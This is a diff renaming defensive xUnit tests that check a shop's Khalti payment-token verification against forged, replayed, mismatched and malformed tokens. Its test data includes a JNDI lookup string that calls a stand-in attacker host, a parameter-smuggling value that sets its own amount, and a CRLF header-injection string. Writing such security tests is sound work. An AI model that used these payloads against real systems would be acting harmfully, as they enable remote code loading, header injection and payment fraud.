@@ -27,7 +27,7 @@ public sealed class TokenAttackTests
     }
 
     [Fact]
-    public async Task A_token_that_somebody_confirmed_for_his_own_order_does_not_pay_the_thiefs()
+    public async Task A_token_confirmed_for_another_order_does_not_pay()
     {
         await using Target shop = await Target.OpenAsync();
         (JsonNode victim, string token) = await shop.ConfirmedAsync();
@@ -46,7 +46,7 @@ public sealed class TokenAttackTests
     [InlineData("ilam-tea", 18_499)]
     [InlineData("ilam-tea", 18_501)]
     [InlineData("ilam-tea", 1_850_000)]
-    public async Task A_token_of_another_amount_pays_nothing_and_takes_nothing(string product, long confirmed)
+    public async Task A_token_of_another_amount_neither_pays_nor_charges(string product, long confirmed)
     {
         await using Target shop = await Target.OpenAsync();
         JsonNode order = await shop.OrderAsync(product);
@@ -62,7 +62,7 @@ public sealed class TokenAttackTests
     [InlineData(OtherMerchant, true, "another merchant's")]
     [InlineData(LiveKey, true, "a live one in test mode")]
     [InlineData(SandboxDriver.PublicKey, false, "one that was not confirmed")]
-    public async Task A_token_that_is_not_a_confirmed_one_of_ours_pays_nothing(string publicKey, bool confirm, string what)
+    public async Task A_token_that_is_unconfirmed_or_of_another_merchant_does_not_pay(string publicKey, bool confirm, string what)
     {
         await using Target shop = await Target.OpenAsync();
         JsonNode order = await shop.OrderAsync();
@@ -85,7 +85,7 @@ public sealed class TokenAttackTests
     [InlineData("x&amount=1000&token=y")]
     [InlineData("${jndi:ldap://evil.example/a}")]
     [InlineData("%0d%0aX-Injected:1")]
-    public async Task A_made_up_token_pays_nothing(string madeUp)
+    public async Task An_invented_token_does_not_pay(string madeUp)
     {
         await using Target shop = await Target.OpenAsync();
         JsonNode order = await shop.OrderAsync();
@@ -109,7 +109,7 @@ public sealed class TokenAttackTests
     [InlineData("\"nul\\u0000byte\"")]
     [InlineData("\"\\ud800\"")]
     [InlineData("\"टोकन\"")]
-    public async Task What_is_no_token_at_all_is_refused_and_Khalti_never_sees_it(string token)
+    public async Task A_malformed_token_is_refused_before_Khalti_is_called(string token)
     {
         await using Target shop = await Target.OpenAsync();
         JsonNode order = await shop.OrderAsync();
@@ -121,7 +121,7 @@ public sealed class TokenAttackTests
     }
 
     [Fact]
-    public async Task The_widgets_success_message_is_no_request_of_ours()
+    public async Task The_widgets_success_payload_is_refused_as_a_verify_request()
     {
         await using Target shop = await Target.OpenAsync();
         (JsonNode order, string token) = await shop.ConfirmedAsync();
@@ -135,7 +135,7 @@ public sealed class TokenAttackTests
     }
 
     [Fact]
-    public async Task A_replayed_token_gives_the_stored_answer_and_moves_nothing()
+    public async Task A_repeated_token_gets_the_stored_answer()
     {
         await using Target shop = await Target.OpenAsync();
         (JsonNode paid, string token) = await shop.PaidAsync();
@@ -148,7 +148,7 @@ public sealed class TokenAttackTests
     }
 
     [Fact]
-    public async Task Fifty_replays_at_once_reach_Khalti_once()
+    public async Task Fifty_parallel_repeats_call_Khalti_once()
     {
         await using Target shop = await Target.OpenAsync();
         (JsonNode order, string token) = await shop.ConfirmedAsync();
@@ -161,7 +161,7 @@ public sealed class TokenAttackTests
     }
 
     [Fact]
-    public async Task Two_tabs_that_pay_one_order_at_once_are_charged_once()
+    public async Task Two_parallel_payments_of_one_order_charge_once()
     {
         await using Target shop = await Target.OpenAsync();
         (JsonNode order, string first) = await shop.ConfirmedAsync();
